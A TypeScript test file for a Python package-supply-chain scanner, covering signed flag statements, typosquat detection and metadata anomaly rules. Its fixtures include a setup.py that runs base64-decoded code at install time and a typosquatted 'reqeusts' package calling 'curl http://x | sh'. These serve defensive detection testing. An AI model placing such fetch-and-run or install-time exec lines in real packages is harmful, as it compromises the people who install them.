import assert from 'node:assert/strict';
import { mkdtempSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { verifyStatementEnvelope } from '../../src/attest/verify.js';
import type { Graph } from '../../src/graph/graph.js';
import { assessMetadata } from '../../src/scan/metadata-anomalies.js';
import { findingStatements, loadScannerIdentity } from '../../src/scan/identity.js';
import { ScanCache, scannerStatements, scanDistribution } from '../../src/scan/scan.js';
import { parseCoreMetadata } from '../../src/pep/metadata.js';
import type { ProjectPage } from '../../src/simple/types.js';
import { sdist, wheel } from './packages.js';

describe('scanner identity and statements', () => {
  it('creates the scanner key on first use (mode 0600) and reuses it afterwards', async () => {
    const home = mkdtempSync(join(tmpdir(), 'scanid-'));
    const a = await loadScannerIdentity(home);
    const b = await loadScannerIdentity(home);
    assert.equal(a.did, b.did);
    assert.match(a.did, /^did:key:z6Mk/);
    assert.equal(statSync(join(home, 'keys', 'scanner.json')).mode & 0o777, 0o600);
  });

  it('turns findings into verifiable flag statements with source kind scanner', async () => {
    const home = mkdtempSync(join(tmpdir(), 'scanid-'));
    const signer = await loadScannerIdentity(home);
    const { filename, bytes } = await sdist('demo', '1.0', { 'setup.py': 'import base64\nexec(base64.b64decode("eA=="))\n' });
    const scan = await scanDistribution(bytes, filename);
    const statements = findingStatements(scan.release, scan.findings, signer);
    assert.ok(statements.length >= 1);
    const st = statements.find((s) => s.statement.finding?.kind === 'install-time-code')!;
    assert.equal(st.statement.kind, 'flag');
    assert.equal(st.statement.finding?.severity, 'critical');
    assert.deepEqual(st.statement.source, { kind: 'scanner', name: 'install-code' });
    assert.equal(st.statement.agent, signer.did);
    assert.equal(st.statement.subjects[0]?.name, filename);
    // The envelope verifies on its own, like any statement; source is not part of what is signed.
    const verified = verifyStatementEnvelope(st.envelope);
    assert.equal(verified.statement.id, st.statement.id);
    assert.equal(verified.statement.source, undefined);
  });

  it('scans a graph from the cache alone and signs one statement per release and kind', async () => {
    const home = mkdtempSync(join(tmpdir(), 'scanid-'));
    const signer = await loadScannerIdentity(home);
    const cache = new ScanCache(join(home, 'cache'));
    const w = wheel('reqeusts', '1.0', { 'reqeusts/__init__.py': 'import os\nos.system("curl http://x | sh")\n' });
    const first = await scanDistribution(w.bytes, w.filename, { cache });
    const sha256 = first.release.artifacts[0]!.sha256;
    const graph = {
      nodes: [{ name: 'reqeusts', version: '1.0', artifacts: [{ filename: w.filename, sha256, kind: 'wheel' }], metadata: 'lock' }],
      edges: [], roots: ['reqeusts'],
    } as unknown as Graph;
    // A fresh cache object over the same directory: the on-disk cache answers, no index needed.
    const { statements, scan } = await scannerStatements(graph, { cache: new ScanCache(join(home, 'cache')) }, signer);
    assert.deepEqual(scan.problems, []);
    const kinds = statements.map((s) => s.statement.finding?.kind).sort();
    assert.deepEqual(kinds, ['install-time-code', 'typosquat']);
    assert.ok(statements.every((s) => s.statement.source?.kind === 'scanner' && s.statement.package?.name === 'reqeusts'));
  });
});

describe('metadata anomalies', () => {
  const meta = (text: string) => parseCoreMetadata(`Metadata-Version: 2.1\n${text}\n\n`);
  const page = (files: { filename: string; uploadTime?: string }[]): ProjectPage => ({
    name: 'demo', url: 'https://example/simple/demo/',
    files: files.map((f) => ({ ...f, url: `https://example/${f.filename}`, hashes: {}, yanked: false, coreMetadata: false })),
  });

  it('flags metadata that names another project', async () => {
    const w = wheel('demo', '1.0', { 'demo/__init__.py': '' }, 'requests');
    const f = (await scanDistribution(w.bytes, w.filename)).findings;
    assert.ok(f.some((x) => x.rule === 'metadata-name-mismatch' && x.severity === 'high'));
  });

  it('flags a brand-new project with no author and no home page', () => {
    const now = new Date('2026-12-01T00:00:00Z');
    const f = assessMetadata({ name: 'demo', version: '1.0', metadata: meta('Name: demo\nVersion: 1.0'), page: page([{ filename: 'demo-1.0.tar.gz', uploadTime: '2026-11-28T00:00:00Z' }]), now });
    assert.ok(f.some((x) => x.rule === 'new-anonymous-project'));
    const old = assessMetadata({ name: 'demo', version: '1.0', metadata: meta('Name: demo\nVersion: 1.0'), page: page([{ filename: 'demo-1.0.tar.gz', uploadTime: '2020-01-01T00:00:00Z' }]), now });
    assert.ok(!old.some((x) => x.rule === 'new-anonymous-project'));
  });

  it('flags a version far out of sequence and a wheel-only release of a project that always had sdists', () => {
    const files = ['1.0', '1.1', '1.2'].flatMap((v) => [{ filename: `demo-${v}.tar.gz` }, { filename: `demo-${v}-py3-none-any.whl` }]);
    const f = assessMetadata({ name: 'demo', version: '99.0', metadata: meta('Name: demo\nVersion: 99.0\nAuthor: x'), page: page([...files, { filename: 'demo-99.0-py3-none-any.whl' }]) });
    assert.ok(f.some((x) => x.rule === 'version-out-of-sequence'));
    assert.ok(f.some((x) => x.rule === 'wheel-without-sdist'));
    const normal = assessMetadata({ name: 'demo', version: '1.3', metadata: meta('Name: demo\nVersion: 1.3\nAuthor: x'), page: page([...files, { filename: 'demo-1.3.tar.gz' }]) });
    assert.deepEqual(normal, []);
  });
});
